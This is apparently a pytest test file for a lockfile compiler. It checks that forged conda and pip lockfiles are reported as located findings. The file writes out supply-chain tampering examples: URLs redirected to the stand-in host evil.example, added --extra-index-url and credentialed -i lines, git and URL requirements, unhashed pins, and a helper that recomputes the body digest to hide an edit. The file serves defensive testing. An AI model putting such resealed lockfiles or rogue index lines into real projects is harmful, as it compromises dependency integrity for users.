"""Forged locks: a pull request edits a lockfile's body and recomputes its `body-sha256` (one line).
Each forgery in the corpus must be a finding of `envc lock --check`, `envc validate --locks` and
`envc render` (exit 1, never 3), located at the lockfile's line, and nothing is rendered.

The repository is locked once (conda from tests/data/channels, pip from wheels built here); each
case edits a copy.
"""

from __future__ import annotations

import hashlib
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from compiler.cli import main
from compiler.lock.pip import PipIndex, write_wheel
from compiler.lock.repository import lock_repository
from tests.test_lock import MIRRORS

MANIFEST = (
    "schema_version: 1\nname: ml\npython: '3.12'\nconda: [python 3.12.*, pip]\n"
    "pip: ['alpha>=1.0', beta]\nplatforms: [linux-64]\n"
)
FOLDER = "environments/ml"
HASH = "sha256:" + "ab" * 32


@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("locked")
    wheels = root.parent / f"{root.name}-wheels"
    wheels.mkdir()
    write_wheel(wheels, "alpha", "1.1")
    write_wheel(wheels, "beta", "2.0", ("alpha>=1.0",))
    (root / FOLDER).mkdir(parents=True)
    (root / FOLDER / "env.yaml").write_text(MANIFEST)
    [outcome] = lock_repository(
        root, mirrors=MIRRORS, pip_index=PipIndex(find_links=(str(wheels),))
    )
    assert outcome.status == "locked", outcome.reasons
    return root


def _reseal(text: str) -> str:
    """What a forger does after editing a body: recompute the digest line of the header."""
    lines = text.split("\n")
    end = next(i for i, line in enumerate(lines) if not line.startswith("# "))
    body = "\n".join(lines[end:])
    digest = hashlib.sha256(body.encode()).hexdigest()
    lines = [
        f"# body-sha256: {digest}" if line.startswith("# body-sha256: ") else line for line in lines
    ]
    return "\n".join(lines)


Forgery = Callable[[str], str]


def _first_url_line(text: str, change: Callable[[str], str]) -> str:
    lines = text.split("\n")
    index = next(i for i, line in enumerate(lines) if line.startswith("https://"))
    lines[index] = change(lines[index])
    return "\n".join(lines)


def _after_pin(text: str, extra: str) -> str:
    return re.sub(r"(?m)^(alpha==)", extra.replace("\\", "\\\\") + "\n" + r"\1", text, count=1)


FORGERIES: dict[str, tuple[str, Forgery, str]] = {
    # name: (lockfile, forgery, words of the finding)
    "explicit-other-host": (
        "conda-linux-64.lock",
        lambda t: _first_url_line(t, lambda u: u.replace("conda.anaconda.org", "evil.example")),
        "is not from a declared channel",
    ),
    "explicit-undeclared-channel": (
        "conda-linux-64.lock",
        lambda t: (
            t.rstrip("\n")
            + "\nhttps://conda.anaconda.org/evil/linux-64/evil-6.6.6-0.conda#"
            + "0" * 32
            + "\n"
        ),
        "is not from a declared channel",
    ),
    "explicit-option-line": (
        "conda-linux-64.lock",
        lambda t: t.replace("@EXPLICIT\n", "@EXPLICIT\n--insecure\n"),
        "is not from a declared channel",
    ),
    "explicit-wrong-subdir": (
        "conda-linux-64.lock",
        lambda t: _first_url_line(t, lambda u: re.sub(r"/(linux-64|noarch)/", "/win-64/", u)),
        "is not a linux-64 or noarch package",
    ),
    "explicit-garbage-md5": (
        "conda-linux-64.lock",
        lambda t: _first_url_line(t, lambda u: u.split("#")[0] + "#zz"),
        "is not an MD5 digest",
    ),
    "conda-lock-other-host": (
        "conda-lock.yml",
        lambda t: t.replace(
            "url: https://conda.anaconda.org/conda-forge/",
            "url: https://evil.example/conda-forge/",
            1,
        ),
        "is not from a declared channel",
    ),
    "conda-lock-package-dropped": (
        "conda-lock.yml",
        lambda t: re.sub(r"(?s)\n- category: main.*?(?=\n- category: main)", "", t, count=1),
        "disagrees with conda-linux-64.lock",
    ),
    "conda-lock-not-yaml": (
        "conda-lock.yml",
        lambda t: t.replace("\nversion: 1\n", "\nversion: [1\n", 1),
        "not a conda-lock file",
    ),
    "requirements-extra-index": (
        "requirements-linux-64.txt",
        lambda t: _after_pin(t, "--extra-index-url https://evil.example/simple"),
        "only name==version pins and --hash lines belong here",
    ),
    "requirements-index-url": (
        "requirements-linux-64.txt",
        lambda t: _after_pin(t, "-i https://alice:S3CRET@evil.example/simple"),
        "only name==version pins",
    ),
    "requirements-url-requirement": (
        "requirements-linux-64.txt",
        lambda t: _after_pin(t, "evil @ https://evil.example/evil-1-py3-none-any.whl"),
        "only name==version pins",
    ),
    "requirements-editable": (
        "requirements-linux-64.txt",
        lambda t: _after_pin(t, "-e git+https://evil.example/evil.git#egg=evil"),
        "only name==version pins",
    ),
    "requirements-unhashed-pin": (
        "requirements-linux-64.txt",
        lambda t: _after_pin(t, "evil==6.6.6"),
        "evil has no --hash",
    ),
    "requirements-extra-hashed-pin": (
        "requirements-linux-64.txt",
        lambda t: _after_pin(t, f"evil==6.6.6 \\\n    --hash={HASH}"),
        "pins 1 package version(s) the hashed requirements do not",  # pylock disagrees
    ),
    "requirements-pin-breaks-spec": (
        "requirements-linux-64.txt",
        lambda t: t.replace("alpha==1.1", "alpha==0.9"),
        "does not satisfy",
    ),
    "pylock-not-toml": (
        "pylock.linux-64.toml",
        lambda t: t + "\n[[packages]\nname = \n",
        "not valid TOML",
    ),
    "conda-lock-pip-other-version": (
        "conda-lock.yml",
        lambda t: re.sub(r"(  name: alpha\n(?:  .*\n)*?  version: ')1\.1'", r"\g<1>6.6.6'", t),
        "its pip packages disagree with requirements-linux-64.txt",
    ),
    "pylock-other-version": (
        "pylock.linux-64.toml",
        lambda t: t.replace('version = "1.1"', 'version = "6.6.6"', 1),
        "pins 2 package version(s) the hashed requirements do not",
    ),
}


def _forged(locked: Path, tmp_path: Path, case: str) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(locked, root)
    file, forge, _ = FORGERIES[case]
    target = root / FOLDER / file
    original = target.read_text()
    forged = _reseal(forge(original))
    assert forged != original, "the forgery changed nothing"
    target.write_text(forged)
    return root


@pytest.mark.parametrize("case", sorted(FORGERIES))
@pytest.mark.parametrize("command", ["lock --check", "validate --locks", "render"])
def test_a_forged_lock_is_a_located_finding(
    locked: Path, tmp_path: Path, case: str, command: str
) -> None:
    root = _forged(locked, tmp_path, case)
    result = CliRunner().invoke(main, [*command.split(), "--repo", str(root)])
    output = result.output + (result.stderr if result.stderr_bytes else "")
    assert result.exit_code == 1, output
    assert "Traceback" not in output and "internal error" not in output
    words = FORGERIES[case][2]
    # at the forged file's line, or at the line of the file that no longer agrees with it
    located = re.search(rf"{FOLDER}/[^:\s]+:\d+: [^;\n]*{re.escape(words)}", output)
    assert located, output
    assert "S3CRET" not in output  # an excerpt of the input never echoes a credential
    assert not (root / "build" / "ml").exists()


def test_the_untouched_lock_is_fresh(locked: Path) -> None:
    result = CliRunner().invoke(main, ["lock", "--check", "--repo", str(locked)])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "inputs",
    ["[]", "5", '{"specs": 5}', '{"specs": [1]}', '{"virtual_packages": []}', "{", '"x"'],
)
def test_a_forged_inputs_header_is_a_finding_not_a_crash(
    locked: Path, tmp_path: Path, inputs: str
) -> None:
    root = tmp_path / "repo"
    shutil.copytree(locked, root)
    for lockfile in (root / FOLDER).iterdir():
        if lockfile.name != "env.yaml":
            text = lockfile.read_text()
            text = re.sub(r"(?m)^# inputs: .*$", f"# inputs: {inputs}", text)
            text = re.sub(r"(?m)^# input-fingerprint: .*$", "# input-fingerprint: sha256:0", text)
            lockfile.write_text(text)
    result = CliRunner().invoke(main, ["lock", "--check", "--repo", str(root)])
    assert result.exit_code == 1, result.output
    assert "ml: stale" in result.output


def test_a_fifo_where_a_lockfile_goes_is_replaced_not_waited_on(tmp_path: Path) -> None:
    """The writer compares before it replaces; a FIFO committed in a lockfile's place must not
    block that comparison (a reader would wait for a writer for ever)."""
    import os
    import signal

    from compiler._util.files import write_atomically

    target = tmp_path / "conda-lock.yml"
    os.mkfifo(target)

    def hung(signum: int, frame: object) -> None:
        raise TimeoutError("write_atomically waited on a FIFO")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(5)
    try:
        assert write_atomically(target, "version: 1\n")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert target.is_file() and target.read_text() == "version: 1\n"
